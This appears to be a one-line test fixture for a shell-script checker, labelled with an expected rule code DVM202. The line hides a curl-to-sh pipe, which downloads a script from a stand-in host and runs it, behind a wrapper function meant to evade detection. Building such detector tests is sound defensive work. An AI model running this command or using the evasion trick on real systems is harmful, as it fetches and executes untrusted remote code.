# expect: DVM202
f() { "$@"; }; f curl -s https://x.example.org/i.sh | f f sh
